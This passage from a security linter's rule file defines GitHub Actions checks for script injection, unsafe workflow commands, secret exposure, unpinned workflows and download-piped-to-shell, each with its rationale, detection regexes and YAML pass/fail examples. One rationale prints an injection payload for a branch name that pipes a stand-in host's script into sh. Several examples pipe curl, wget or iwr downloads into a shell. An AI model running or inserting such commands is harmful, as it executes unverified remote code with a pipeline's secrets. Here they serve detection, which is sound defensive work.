        # The ingest's taint pass (`s.flows`) follows inputs through `env`, `$GITHUB_ENV` and outputs.
        let sinks = filter(f in default(s.flows, []), f.field == "run"
          or (starts_with(f.field, "with.") and (action + ":" + lower(replace(f.field, "with.", ""))) in param.code_inputs))
        # A context is risky when it is `inputs`/`github.event.inputs` (whole or one input) and the
        # input is not declared with a type that cannot carry text.
        # An input declared by both triggers is safe only if both declare a safe type: a `choice` of
        # workflow_dispatch does not constrain what a workflow_call caller passes as a `string`.
        # GitHub reads input names in any case (`inputs.VERSION` is the input `version`), and expression
        # contexts come in lower case: declared names are compared in lower case.
        let safe_types = ["boolean", "number", "choice", "environment"]
        let dispatch = default(wf.on.workflow_dispatch.inputs, {})
        let call = default(wf.on.workflow_call.inputs, {})
        let declared = flatten([map(k in keys(dispatch), lower(k)), map(k in keys(call), lower(k))])
        let free_text = flatten([
          map(k in filter(k in keys(dispatch), default(dispatch[k].type, "string") not in safe_types), lower(k)),
          map(k in filter(k in keys(call), default(call[k].type, "string") not in safe_types), lower(k))])
        let risky = filter(f in sinks, not any(t in f.texts, t matches param.boolean_valued)
          and f.context matches "(?i)^(github\\.event\\.)?inputs(\\.|\\[|$)"
          and (replace(replace(f.context, "github.event.inputs.", ""), "inputs.", "") in free_text
            or replace(replace(f.context, "github.event.inputs.", ""), "inputs.", "") not in declared))
        # The fix, as template_injection's: the input moves into the step's `env` as `INPUT_<NAME>` and
        # the script reads the variable; only for inputs expanded in place into a bash or sh script, one
        # input per step, under the same conditions.
        let fix_text = first(risky).text
        let fix_var = "INPUT_" + upper(replace(replace(replace(lower(to_string(default(fix_text, ""))), "github.event.inputs.", ""), "inputs.", ""), "-", "_"))
        require count(risky) == 0
          else "'${first(risky).text}' is expanded into ${default({run: "a run script"}[first(risky).field], "the '" + replace(first(risky).field, "with.", "") + "' input of " + action)}; whoever supplies the input writes code into the step (${first(risky).path})" at first(risky)
          fix {
            for v in filter(v in [fix_var], all(f in risky, f.text == fix_text and f.field == "run" and f.hops == 0)
                and fix_text matches "^(github\\.event\\.)?inputs\\.[A-Za-z_][A-Za-z0-9_-]*$" and v matches "^INPUT_[A-Z0-9_]+$"
                and lower(trim(to_string(default(s.shell, "")))) matches "^(ba)?sh(\\s|$)"
                and not any(l in split(to_string(s.run), "\n"), contains(l, fix_text) and contains(l, "'"))
                and not (to_string(s.run) matches "<<-?\\s*(['\"]|\\\\)")
                and not contains(to_string(s.run), "\$" + v) and not contains(to_string(s.run), "\${" + v)
                and not exists(s.env[v]) and not exists(first(s -> inJob).env[v]) and not exists(wf.env[v])) {
              set s.run = replace(replace(to_string(s.run), "\${{ " + fix_text + " }}", "\${" + v + "}"),
                "\${{" + fix_text + "}}", "\${" + v + "}")
              insert s.env[v] = "\${{ " + fix_text + " }}"
            }
          }

        example pass """
          on:
            workflow_dispatch:
              inputs:
                dry-run:
                  type: boolean
                target:
                  type: choice
                  options: [staging, production]
                version:
                  type: string
          jobs:
            release:
              runs-on: ubuntu-24.04
              steps:
                - run: ./release.sh --dry-run=${{ inputs.dry-run }} --target ${{ inputs.target }} --v2=${{ startsWith(inputs.version, '2.') }}
                - env:
                    VERSION: ${{ inputs.version }}
                  run: ./tag.sh "$VERSION"
        """
        example fail "string input of workflow_dispatch" """
          on:
            workflow_dispatch:
              inputs:
                version:
                  type: string
          jobs:
            release:
              runs-on: ubuntu-24.04
              steps:
                - run: git tag "↓${{ inputs.version }}"
        """ expect "'inputs.version' is expanded into a run script"
        example fail "a choice for workflow_dispatch, a string for workflow_call" """
          on:
            workflow_call:
              inputs:
                mode:
                  type: string
            workflow_dispatch:
              inputs:
                mode:
                  type: choice
                  options: [fast, full]
          jobs:
            build:
              runs-on: ubuntu-24.04
              steps:
                - run: make "↓${{ inputs.mode }}"
        """ expect "'inputs.mode' is expanded into a run script"
        example fail "an input named in another case is the same input" """
          on:
            workflow_dispatch:
              inputs:
                Version:
                  type: string
                DryRun:
                  type: boolean
          jobs:
            release:
              runs-on: ubuntu-24.04
              steps:
                - run: ./release.sh --dry-run=${{ inputs.dryrun }} --v2=${{ INPUTS.DRYRUN }}
                - run: git tag "↓${{ INPUTS.VERSION }}"
                - run: git tag "↓${{ github.event['Inputs']['version'] }}"
        """ expect "'INPUTS.VERSION' is expanded into a run script" expect "'github.event['Inputs']['version']' is expanded"
        example fail "relayed through env and a step output" """
          on:
            workflow_call:
              inputs:
                ref:
                  type: string
          jobs:
            build:
              runs-on: ubuntu-24.04
              env:
                REF: ${{ inputs.ref }}
              steps:
                - run: git fetch origin "↓${{ env.REF }}"
                - id: norm
                  run: echo "ref=${REF#refs/heads/}" >> "$GITHUB_OUTPUT"
                - run: git checkout ↓${{ steps.norm.outputs.ref }}
        """ expect "'env.REF' is expanded into a run script; whoever supplies the input writes code into the step (inputs.ref → env.REF (job build) → run (job build, step 1))" expect "steps.norm.outputs.ref → run (job build, step 3)"
        example fail {
          file "action.yml" """
            name: greet
            inputs:
              who:
                description: who to greet
            runs:
              using: composite
              steps:
                - run: echo "hello ↓${{ inputs.who }}"
                  shell: bash
          """
        } expect "'inputs.who' is expanded into a run script"
      }

      """#),
    PolicySource(
      path: "rules/security/github/insecure_workflow_commands_enabled.plumb",
      text: #"""
      rule insecure_workflow_commands_enabled {
        title "Deprecated set-env and add-path workflow commands stay disabled"
        severity high
        category security
        tags [github-actions, injection]
        rationale """
          `ACTIONS_ALLOW_UNSECURE_COMMANDS: true` re-enables the `::set-env` and `::add-path` workflow
          commands, which GitHub disabled in 2020 (CVE-2020-15228): any process that can print to the
          job's log (a test printing a pull request title, a dependency, a log line from a server) can
          then set `LD_PRELOAD` or `NODE_OPTIONS` or prepend to `PATH` for the following steps and run
          code with the job's secrets.

          The runner enables the commands when the variable's value parses with .NET's `bool.TryParse`
          (actions/runner `src/Runner.Worker/ActionCommandManager.cs`, `SetEnvCommandExtension` and
          `AddPathCommandExtension`: first the runner's own environment, then the `env` context, which
          holds the workflow's, the job's and the step's `env`): `true` in any letter case, with white
          space around it. `yes`, `on` and `1` do not parse, so they leave the commands disabled and are
          not reported (YAML 1.2 reads them as the strings `yes`/`on` and the number 1). A literal
          expression `${{ true }}` or `${{ 'true' }}` is reported; other expressions are not judged.
          Composite actions are judged by `insecure_workflow_commands_enabled_in_action`.
        """
        remediation "Remove `ACTIONS_ALLOW_UNSECURE_COMMANDS`, and write to the `$GITHUB_ENV` and `$GITHUB_PATH` files instead of printing `::set-env`/`::add-path`."

        for w in github.workflow
        # What .NET's bool.TryParse reads as true, written literally or as a literal expression.
        let enabled = "(?i)^\\s*(true|\\$\\{\\{\\s*(true|'true')\\s*\\}\\})\\s*$"
        let jobs = filter(k in keys(w.jobs), to_string(default(w.jobs[k].env.ACTIONS_ALLOW_UNSECURE_COMMANDS, "")) matches enabled)
        let steps = filter(st in flatten(map(jb in values(w.jobs), default(jb.steps, []))),
          to_string(default(st.env.ACTIONS_ALLOW_UNSECURE_COMMANDS, "")) matches enabled)
        require not (to_string(default(w.env.ACTIONS_ALLOW_UNSECURE_COMMANDS, "")) matches enabled)
          else "the workflow sets ACTIONS_ALLOW_UNSECURE_COMMANDS to '${w.env.ACTIONS_ALLOW_UNSECURE_COMMANDS}' for every job" at w.env.ACTIONS_ALLOW_UNSECURE_COMMANDS
          fix { remove w.env.ACTIONS_ALLOW_UNSECURE_COMMANDS }
        require count(jobs) == 0
          else "job '${first(jobs)}' sets ACTIONS_ALLOW_UNSECURE_COMMANDS to '${w.jobs[first(jobs)].env.ACTIONS_ALLOW_UNSECURE_COMMANDS}'" at w.jobs[first(jobs)].env.ACTIONS_ALLOW_UNSECURE_COMMANDS
          fix { for k in jobs { remove w.jobs[k].env.ACTIONS_ALLOW_UNSECURE_COMMANDS } }
        require count(steps) == 0
          else "a step sets ACTIONS_ALLOW_UNSECURE_COMMANDS to '${first(steps).env.ACTIONS_ALLOW_UNSECURE_COMMANDS}' (${count(steps)} step(s) in all)" at first(steps).env.ACTIONS_ALLOW_UNSECURE_COMMANDS
          fix {
            for k in keys(w.jobs) {
              for i in filter(i in map(i, st in default(w.jobs[k].steps, []), i),
                  to_string(default(w.jobs[k].steps[i].env.ACTIONS_ALLOW_UNSECURE_COMMANDS, "")) matches enabled) {
                remove w.jobs[k].steps[i].env.ACTIONS_ALLOW_UNSECURE_COMMANDS
              }
            }
          }

        example pass """
          on: push
          env:
            ACTIONS_ALLOW_UNSECURE_COMMANDS: false
          jobs:
            build:
              runs-on: ubuntu-24.04
              steps:
                - run: echo "PATH_ADDITION=/opt/tool/bin" >> "$GITHUB_ENV"
        """
        example pass "spellings the runner does not parse as true" """
          on: push
          env:
            ACTIONS_ALLOW_UNSECURE_COMMANDS: yes
          jobs:
            build:
              runs-on: ubuntu-24.04
              env:
                ACTIONS_ALLOW_UNSECURE_COMMANDS: 1
              steps:
                - run: make
                  env:
                    ACTIONS_ALLOW_UNSECURE_COMMANDS: "on"
                - run: make install
                  env:
                    ACTIONS_ALLOW_UNSECURE_COMMANDS: "truthy"
                - run: make check
                  env:
                    ACTIONS_ALLOW_UNSECURE_COMMANDS: ${{ vars.ALLOW_COMMANDS }}
        """
        example fail "workflow, job and step" """
          on: push
          env:
            ACTIONS_ALLOW_UNSECURE_COMMANDS: ↓true
          jobs:
            build:
              runs-on: ubuntu-24.04
              env:
                ACTIONS_ALLOW_UNSECURE_COMMANDS: ↓"true"
              steps:
                - run: echo "::add-path::/opt/tool/bin"
                  env:
                    ACTIONS_ALLOW_UNSECURE_COMMANDS: ↓'TRUE'
        """ expect "the workflow sets ACTIONS_ALLOW_UNSECURE_COMMANDS to 'true' for every job" expect "job 'build' sets" expect "a step sets ACTIONS_ALLOW_UNSECURE_COMMANDS to 'TRUE'"
        example fail "TRUE is a YAML boolean" """
          on: push
          jobs:
            build:
              runs-on: ubuntu-24.04
              env:
                ACTIONS_ALLOW_UNSECURE_COMMANDS: ↓TRUE
              steps:
                - run: echo "::set-env name=TOOL_HOME::/opt/tool"
        """ expect "job 'build' sets ACTIONS_ALLOW_UNSECURE_COMMANDS to 'true'"
        example fail "white space around true" """
          on: push
          jobs:
            build:
              runs-on: ubuntu-24.04
              steps:
                - run: echo "::add-path::/opt/tool/bin"
                  env:
                    ACTIONS_ALLOW_UNSECURE_COMMANDS: ↓" True "
                - run: echo "::add-path::/opt/other/bin"
                  env:
                    ACTIONS_ALLOW_UNSECURE_COMMANDS: "false"
        """ expect "a step sets ACTIONS_ALLOW_UNSECURE_COMMANDS to ' True ' (1 step(s) in all)"
        example fail "a literal expression" """
          on: push
          env:
            ACTIONS_ALLOW_UNSECURE_COMMANDS: ↓${{ true }}
          jobs:
            build:
              runs-on: ubuntu-24.04
              steps:
                - run: make
                  env:
                    ACTIONS_ALLOW_UNSECURE_COMMANDS: ↓${{ 'TRUE' }}
        """ expect "the workflow sets ACTIONS_ALLOW_UNSECURE_COMMANDS to '${{ true }}'" expect "a step sets"
      }

      """#),
    PolicySource(
      path: "rules/security/github/insecure_workflow_commands_enabled_in_action.plumb",
      text: #"""
      rule insecure_workflow_commands_enabled_in_action {
        title "Composite actions keep the deprecated set-env and add-path workflow commands disabled"
        severity high
        category security
        tags [github-actions, injection]
        rationale """
          A composite action's step with `ACTIONS_ALLOW_UNSECURE_COMMANDS: true` in its `env`
          re-enables the `::set-env` and `::add-path` workflow commands (CVE-2020-15228) while it runs,
          in every workflow that uses the action: whatever that step prints (a pull request title, a
          dependency's output) can set `LD_PRELOAD` or `NODE_OPTIONS` or prepend to `PATH` for the
          caller's following steps and run code with the job's secrets.

          The runner enables the commands when the variable's value parses with .NET's `bool.TryParse`
          (actions/runner `src/Runner.Worker/ActionCommandManager.cs`, `SetEnvCommandExtension` and
          `AddPathCommandExtension` read the step's `env` context): `true` in any letter case, with
          white space around it. `yes`, `on` and `1` do not parse and are not reported. A literal
          expression `${{ true }}` or `${{ 'true' }}` is reported; other expressions are not judged.
          Workflows are judged by `insecure_workflow_commands_enabled`.
        """
        remediation "Remove `ACTIONS_ALLOW_UNSECURE_COMMANDS` from the step's `env`, and write to the `$GITHUB_ENV` and `$GITHUB_PATH` files instead of printing `::set-env`/`::add-path`."

        for a in github.action("composite")
        # What .NET's bool.TryParse reads as true, written literally or as a literal expression.
        let enabled = "(?i)^\\s*(true|\\$\\{\\{\\s*(true|'true')\\s*\\}\\})\\s*$"
        let hits = filter(h in map(i, st in default(a.runs.steps, []),
            {index: i, name: default(st.name, default(st.id, "")),
             hit: to_string(default(st.env.ACTIONS_ALLOW_UNSECURE_COMMANDS, "")) matches enabled}),
          h.hit)
        require count(hits) == 0
          else "step ${first(hits).index + 1} of composite action '${name(a)}' sets ACTIONS_ALLOW_UNSECURE_COMMANDS to '${a.runs.steps[first(hits).index].env.ACTIONS_ALLOW_UNSECURE_COMMANDS}' (${count(hits)} step(s) in all)" at a.runs.steps[first(hits).index].env.ACTIONS_ALLOW_UNSECURE_COMMANDS
          fix { for h in hits { remove a.runs.steps[h.index].env.ACTIONS_ALLOW_UNSECURE_COMMANDS } }

        example pass """
          name: Set up tool
          runs:
            using: composite
            steps:
              - run: echo "/opt/tool/bin" >> "$GITHUB_PATH"
                shell: bash
                env:
                  ACTIONS_ALLOW_UNSECURE_COMMANDS: false
        """
        example pass "spellings the runner does not parse as true" """
          name: Set up tool
          runs:
            using: composite
            steps:
              - run: make
                shell: bash
                env:
                  ACTIONS_ALLOW_UNSECURE_COMMANDS: yes
              - run: make install
                shell: bash
                env:
                  ACTIONS_ALLOW_UNSECURE_COMMANDS: 1
              - run: make check
                shell: bash
                env:
                  ACTIONS_ALLOW_UNSECURE_COMMANDS: ${{ inputs.allow-commands }}
        """
        example fail """
          name: Set up tool
          runs:
            using: composite
            steps:
              - run: echo "::add-path::/opt/tool/bin"
                shell: bash
                env:
                  ACTIONS_ALLOW_UNSECURE_COMMANDS: ↓true
              - run: echo "::set-env name=TOOL_HOME::/opt/tool"
                shell: bash
                env:
                  ACTIONS_ALLOW_UNSECURE_COMMANDS: "TRUE"
        """ expect "step 1 of composite action 'Set up tool' sets ACTIONS_ALLOW_UNSECURE_COMMANDS to 'true' (2 step(s) in all)"
        example fail "white space and case" """
          name: Set up tool
          runs:
            using: composite
            steps:
              - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af # v4.1.0
              - run: echo "::add-path::/opt/tool/bin"
                shell: bash
                env:
                  ACTIONS_ALLOW_UNSECURE_COMMANDS: ↓" True "
        """ expect "step 2 of composite action 'Set up tool' sets ACTIONS_ALLOW_UNSECURE_COMMANDS to ' True '"
        example fail "a literal expression" """
          name: Set up tool
          runs:
            using: composite
            steps:
              - run: echo "::add-path::/opt/tool/bin"
                shell: bash
                env:
                  ACTIONS_ALLOW_UNSECURE_COMMANDS: ↓${{ 'true' }}
        """ expect "sets ACTIONS_ALLOW_UNSECURE_COMMANDS to '${{ 'true' }}'"
      }

      """#),
    PolicySource(
      path: "rules/security/github/overprovisioned_secrets.plumb",
      text: #"""
      rule overprovisioned_secrets {
        title "Steps receive single secrets, not the whole secrets context"
        severity medium
        category security
        tags [github-actions, secrets, least-privilege]
        rationale """
          `${{ toJSON(secrets) }}` or `secrets[format(…)]` makes the runner fetch every secret
          available to the repository (organisation and environment secrets included) and puts them in
          the step's process, its environment or its files. Anything that runs there (a dependency, a
          compromised action, a crash dump, an uploaded artifact) then leaks all of them, not the one
          the step needed; log masking does not apply to values re-encoded from JSON.
        """
        remediation "Reference each secret the step needs by name: `env: API_TOKEN: ${{ secrets.API_TOKEN }}`."

        for s in github.step
        # Expression contexts come in lower case (GitHub reads `SECRETS` as `secrets`).
        let broad = filter(e in s.expressions, any(c in e.contexts, c == "secrets" or c == "secrets[*]" or c == "secrets.*"))
        require count(broad) == 0
          else "'${first(broad).text}' in ${first(broad).field} exposes every secret of the repository to the step" at first(broad)

        example pass """
          on: push
          jobs:
            deploy:
              runs-on: ubuntu-24.04
              steps:
                - run: ./deploy.sh
                  env:
                    API_TOKEN: ${{ secrets.API_TOKEN }}
                    CONFIG: ${{ toJSON(secrets.DEPLOY_CONFIG) }}
        """
        example fail """
          on: push
          jobs:
            deploy:
              runs-on: ubuntu-24.04
              steps:
                - run: ./deploy.sh
                  env:
                    ALL_SECRETS: ↓${{ toJSON(secrets) }}
                - run: ./other.sh
                  env:
                    TOKEN: ↓${{ secrets[format('{0}_TOKEN', matrix.env)] }}
                - run: ./third.sh
                  env:
                    EVERYTHING: ↓${{ toJSON(SECRETS) }}
        """ expect "'toJSON(secrets)' in env.ALL_SECRETS exposes every secret of the repository to the step" expect "in env.TOKEN" expect "'toJSON(SECRETS)' in env.EVERYTHING"
      }

      """#),
    PolicySource(
      path: "rules/security/github/reusable_workflow_pinned_to_sha.plumb",
      text: #"""
      rule reusable_workflow_pinned_to_sha {
        title "Reusable workflows from other repositories are pinned to a full commit SHA"
        severity high
        category security
        tags [github-actions, supply-chain]
        rationale """
          A job that calls `owner/repo/.github/workflows/x.yml@main` (or `@v1`) runs whatever that
          branch or tag points to when the workflow starts, with the secrets and token permissions the
          caller passes: whoever can push there (or move the tag) runs code in your pipeline. A full
          40-character commit SHA cannot be moved. Workflows of the same repository (`./…`) and owners
          listed in `trusted_owners` are not reported.
        """
        remediation "Pin the call to the commit you reviewed, with the tag in a comment: `uses: owner/repo/.github/workflows/x.yml@<sha> # v1.2.3`."
        param trusted_owners: list<string> = []
        # `owner/repo@tag: sha` (owner/repo lower-cased), filled by `plumb fix`; without a pin, no fix.
        param action_pins: any

        for j in github.job("reusable")
        when j.uses_ref.kind == "repository" and not (lower(j.uses_ref.owner) in param.trusted_owners)
        let pin = param.action_pins[lower(j.uses_ref.owner + "/" + j.uses_ref.repo) + "@" + j.uses_ref.ref]
        require j.uses_ref.ref_kind == "sha"
          else "job '${j.id}' calls '${j.uses_ref.raw}', pinned to ${j.uses_ref.ref_kind} '${default(j.uses_ref.ref, "")}', not a full commit SHA" at j.uses
          fix { set j.uses = j.uses_ref.owner + "/" + j.uses_ref.repo + default("/" + j.uses_ref.path, "") + "@" + pin }

        example pass """
          on: push
          jobs:
            lint:
              uses: ./.github/workflows/lint.yml
            publish:
              uses: acme/workflows/.github/workflows/publish.yml@3f1d8c2a4b5e6f708192a3b4c5d6e7f809a1b2c3 # v2.1.0
        """
        example fail """
          on: push
          jobs:
            publish:
              uses: ↓acme/workflows/.github/workflows/publish.yml@main
        """ expect "job 'publish' calls 'acme/workflows/.github/workflows/publish.yml@main', pinned to branch-or-tag 'main', not a full commit SHA"
      }

      """#),
    PolicySource(
      path: "rules/security/github/reusable_workflow_secrets_inherit.plumb",
      text: #"""
      rule reusable_workflow_secrets_inherit {
        title "Reusable workflows receive only the secrets they need"
        severity medium
        category security
        tags [github-actions, secrets, least-privilege]
        rationale """
          `secrets: inherit` hands every secret of the calling repository (and organisation) to the
          called workflow, whatever it needs. If that workflow, one of its actions, or the code it
          builds is compromised, or if it is later changed to run untrusted code, every secret leaks,
          not only the one it uses; and nobody reviewing the caller can tell which secrets are exposed.
        """
        remediation "List the secrets the called workflow declares: `secrets: {NPM_TOKEN: ${{ secrets.NPM_TOKEN }}}` instead of `secrets: inherit`."

        for j in github.job("reusable")
        require not j.secrets_inherit
          else "job '${j.id}' passes every secret to '${j.uses_ref.raw}' with 'secrets: inherit'" at j.secrets

        example pass """
          on: push
          jobs:
            publish:
              uses: acme/workflows/.github/workflows/publish.yml@3f1d8c2a4b5e6f708192a3b4c5d6e7f809a1b2c3
              secrets:
                NPM_TOKEN: ${{ secrets.NPM_TOKEN }}
        """
        example fail """
          on: push
          jobs:
            publish:
              uses: acme/workflows/.github/workflows/publish.yml@3f1d8c2a4b5e6f708192a3b4c5d6e7f809a1b2c3
              secrets: ↓inherit
        """ expect "job 'publish' passes every secret to 'acme/workflows/.github/workflows/publish.yml@3f1d8c2a4b5e6f708192a3b4c5d6e7f809a1b2c3' with 'secrets: inherit'"
      }

      """#),
    PolicySource(
      path: "rules/security/github/run_download_piped_to_shell.plumb",
      text: #"""
      rule run_download_piped_to_shell {
        title "Run scripts do not execute scripts downloaded at run time"
        severity medium
        category security
        tags [github-actions, supply-chain]
        rationale """
          `curl … | sh`, `bash <(wget …)` or `iex (iwr …)` run whatever the server returns at that
          moment, with the job's token and secrets and without any check: a compromised download site,
          CDN or DNS entry, or a changed install script, runs its code in your pipeline, and nothing in
          the repository records which code ran. URLs pinned to a commit on raw.githubusercontent.com are
          not reported.
        """
        remediation "Download to a file, verify its SHA-256 (`echo \"<sha256>  install.sh\" | sha256sum -c -`), then run it; better, use a pinned action or a package with a lockfile."
        # `curl … | [tee …|] [sudo -E] [env X=1] [X=1] [/bin/]sh [-s] [-]`; `sh <(curl …)`,
        # `source <(curl …)`, `. <(curl …)`; `sh -c "$(curl …)"`, `python3 -c "$(curl …)"`;
        # `eval "$(curl …)"`; PowerShell's `iex (iwr …)`, `iwr … | iex`.
        param pipe_to_shell: pattern = "(?i)((?:^|[|;&])(?>[^|;&]*?\\b(?:curl|wget)\\b)[^|;&]*+\\|\\s*+(?:tee\\b[^|;&]*+\\|\\s*+)?(?:sudo\\s++(?:-\\S++\\s++)*+)?(?:(?:\\S*/)?env\\s++(?:-\\S++\\s++)*+)?(?:[A-Za-z_][A-Za-z0-9_]*=\\S*+\\s++)*+(?:[^\\s|;&]*/)?(?:(?:ba|z|da|k|fi)?sh|python[0-9.]*|perl|ruby|node|php)\\b|\\b(?:(?:ba|z|da|k)?sh|python[0-9.]*|perl|ruby|node)\\s++(?:-\\S++\\s++){0,16}+<\\(\\s*+(?:sudo\\s++)?(?:curl|wget)\\b|(?:^|[\\s;&|])(?:source|\\.)\\s++<\\(\\s*+(?:curl|wget)\\b|\\b(?:(?:ba|z|da|k)?sh|python[0-9.]*|perl|ruby|node)\\s++(?:-\\S++\\s++){0,16}?-[ce]\\s++[\"']?(?:\\$\\(|`)\\s*+(?:curl|wget)\\b|\\beval\\s++[\"']?(?:\\$\\(|`)\\s*+(?:curl|wget)\\b|(?m:^)(?>.*?\\b(?:iex|invoke-expression)\\b).*\\b(?:downloadstring|iwr|irm|invoke-webrequest|invoke-restmethod)\\b|(?:^|\\|)(?>[^|]*?\\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\\b)[^|]*+\\|\\s*+(?:iex|invoke-expression)\\b)"

        for s in github.step("run")
        let lines = filter(l in split(to_string(s.run), "\n"),
          l matches param.pipe_to_shell and not (l matches "raw\\.githubusercontent\\.com/[^/\\s]+/[^/\\s]+/[0-9a-f]{40}/"))
        require count(lines) == 0
          else "step '${name(s)}' in job '${s.job}' runs a downloaded script without verifying it: '${trim(first(lines))}'" at s.run

        example pass """
          on: push
          jobs:
            setup:
              runs-on: ubuntu-24.04
              steps:
                - run: |
                    curl -fsSLo install.sh https://example.com/install.sh
                    echo "4f2c9e1d8b7a6c5e4d3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d  install.sh" | sha256sum -c -
                    sh install.sh
                    curl -fsSL https://raw.githubusercontent.com/acme/tools/0123456789abcdef0123456789abcdef01234567/setup.sh | bash
                    curl -s https://api.example.com/status | jq .
                    curl -fsSL https://example.com/tool.tar.gz | tar xz
                    wget -qO- https://example.com/SHA256SUMS | sha256sum -c --ignore-missing
                    curl -s https://example.com/script.sh | shellcheck -
                    curl -s https://example.com/list | tee list.txt | sort
        """
        example fail """
          on: push
          jobs:
            setup:
              runs-on: ubuntu-24.04
              steps:
                - name: install uv
                  run: ↓curl -LsSf https://astral.sh/uv/install.sh | sh
                - run: ↓|
                    set -e
                    bash <(wget -qO- https://example.com/bootstrap.sh)
        """ expect "step 'install uv' in job 'setup' runs a downloaded script without verifying it: 'curl -LsSf https://astral.sh/uv/install.sh | sh'" expect "'bash <(wget -qO- https://example.com/bootstrap.sh)'"
        example fail "every spelling: flags, sudo, env prefixes, paths, stdin, process substitution, eval" """
          on: push
          jobs:
            setup:
              runs-on: ubuntu-24.04
              steps:
                - run: ↓curl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash -
                - run: ↓wget -qO - https://example.com/i.sh | sh -s -- -y --prefix /opt
                - run: ↓curl https://example.com/i.sh | sudo env INSTALL_DIR=/usr/local /bin/bash
                - run: ↓curl -sSL https://example.com/i.sh | VERSION=1.2 bash
                - run: ↓curl -sSL https://example.com/i.sh | tee install.log | /usr/bin/env bash
                - run: ↓source <(curl -s https://example.com/env.sh)
                - run: ↓. <(wget -qO- https://example.com/env.sh)
                - run: ↓sh -c "$(curl -fsSL https://example.com/i.sh)"
                - run: ↓python3 -c "$(curl -fsSL https://example.com/get.py)"
                - run: ↓eval "$(curl -fsSL https://example.com/env)"
                - run: ↓curl -sSf https://sh.rustup.rs | python3 - --default-toolchain stable
                - run: ↓sudo bash <(curl -fsSL https://example.com/i.sh)
                - shell: pwsh
                  run: ↓iwr https://example.com/i.ps1 -UseBasicParsing | iex
        """ expect "'curl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash -'" expect "'source <(curl -s https://example.com/env.sh)'" expect "'eval \"$(curl -fsSL https://example.com/env)\"'"
      }

      """#),
    PolicySource(
      path: "rules/security/github/self_hosted_runner_on_public_trigger.plumb",
      text: #"""
      rule self_hosted_runner_on_public_trigger {
        title "Pull request workflows do not run on self-hosted runners"
        severity high
        category security
        tags [github-actions, runners]
        rationale """
          In a public repository anyone can open a pull request (or comment on one) and so start jobs
          of workflows triggered by `pull_request`, `pull_request_target`, reviews or comments. On a
          self-hosted runner that job runs the fork's code (or code it can influence) on your machine,
          which is not wiped between jobs: the attacker can persist on the runner, read the secrets and
          tokens of later jobs, and reach your internal network.
        """
        remediation """
          Run these workflows on GitHub-hosted runners; or use ephemeral, isolated self-hosted runners
          (just-in-time runners, a fresh VM per job) and require approval for fork pull requests. List
          such runners' labels in `allowed_labels`.
        """
        param triggers: list<string> = ["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment", "issue_comment"]
        # Labels of your own self-hosted runners that do not carry the `self-hosted` label (lower case).
        param self_hosted_labels: list<string> = []
        # Labels of ephemeral, isolated runners that may serve public triggers (lower case).
        param allowed_labels: list<string> = []

        for j in github.job("steps")
        let wf = first(j -> inWorkflow)
        let public = filter(t in default(wf.triggers, []), t in param.triggers)
        when count(public) > 0
        let self_hosted = j.self_hosted or any(l in j.runner_labels, lower(l) in param.self_hosted_labels)
        require not self_hosted or any(l in j.runner_labels, lower(l) in param.allowed_labels)
          else "job '${j.id}' runs on self-hosted runner ${j.runner_labels} in a workflow triggered by ${join(public, ", ")}" at j["runs-on"]

        example pass """
          on: pull_request
          jobs:
            test:
              runs-on: ubuntu-24.04
              steps:
                - run: make test
            on-push-only:
              runs-on: ubuntu-24.04
              steps:
                - run: make
        """
        example pass "self-hosted on push" """
          on: push
          jobs:
            build:
              runs-on: [self-hosted, linux, x64]
              steps:
                - run: make
        """
        example fail """
          on:
            pull_request:
            issue_comment:
          jobs:
            test:
              runs-on: ↓[self-hosted, linux, gpu]
              steps:
                - run: make test
        """ expect "job 'test' runs on self-hosted runner [\"self-hosted\", \"linux\", \"gpu\"] in a workflow triggered by pull_request, issue_comment"
      }

      """#),
    PolicySource(
      path: "rules/security/github/template_injection.plumb",
      text: #"""
      rule template_injection {
        title "Untrusted input is not expanded into run scripts or script inputs"
        severity critical
        category security
        tags [github-actions, injection, "unsafe-fix"]
        rationale """
          `${{ … }}` is expanded into the script text before the shell (or the JavaScript of
          `actions/github-script`) runs it. When the value comes from an attacker (a pull request title,
          an issue or comment body, a fork's branch name, a commit message), the attacker writes code into
          your job, with its token and secrets: a branch named `a";curl${IFS}evil.sh|sh;"` is enough.
          Dumping a whole event (`toJSON(github.event)`) into a script is the same.
        """
        remediation """
          Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`)
          and use `"$TITLE"` in the script (`process.env.TITLE` in `actions/github-script`).
        """
        # Contexts an outsider can fill with arbitrary text: the GitHub Security Lab / actionlint list
        # of untrusted inputs, and whole event objects that contain them. GitHub reads context names in
        # any case (`GITHUB.EVENT.ISSUE.TITLE`): expression contexts come in lower case, and the
        # pattern ignores case too, so that a pack's own pattern in another spelling still matches.
        param untrusted: pattern = "(?i)^github\\.(head_ref$|event\\.((issue|pull_request|discussion)\\.(title|body)|(comment|review|review_comment)\\.body|pull_request\\.head\\.(ref|label|repo\\.default_branch)|pages(\\[\\*\\]|\\.\\*|\\[[0-9]+\\])\\.page_name|(commits(\\[\\*\\]|\\.\\*|\\[[0-9]+\\])|head_commit|workflow_run\\.head_commit)\\.(message|author\\.(email|name)|committer\\.(email|name))|workflow_run\\.(head_branch|display_title|pull_requests(\\[\\*\\]|\\.\\*|\\[[0-9]+\\])\\.head\\.ref))$)|^artifact$|^github(\\.event(\\.(issue|pull_request|discussion|comment|review|review_comment|head_commit|commits|pages|workflow_run|\\*(\\.(title|body))?))?)?$"
        # Actions whose input is run as code ("owner/repo:input", lower case), after CodeQL's sink models.
        param code_inputs: list<string> = [
          "actions/github-script:script", "amadevus/pwsh-script:script",
          "jannekem/run-python-script-action:script", "cardinalby/js-eval-action:expression",
          "azure/cli:inlinescript", "azure/powershell:inlinescript", "mikefarah/yq:cmd",
          "addnab/docker-run-action:run", "appleboy/ssh-action:script"
        ]

        # Expressions whose value is a boolean (a comparison, `contains(…)`) cannot carry text.
        param boolean_valued: pattern = "(?i)^\\s*+(?:!\\s*+)?(startswith|endswith|contains)\\([^&|]*\\)\\s*$|^(?=[^&|]*$)[^'&|]*?(==|!=|<|>)"

        # Where values come from is the ingest's taint pass (`s.flows`): a context expanded in place has
        # no hops; one that reached the expression through `env`, `$GITHUB_ENV`, step outputs, job
        # outputs or `actions/github-script` lists them in the flow's path.
        for s in github.step
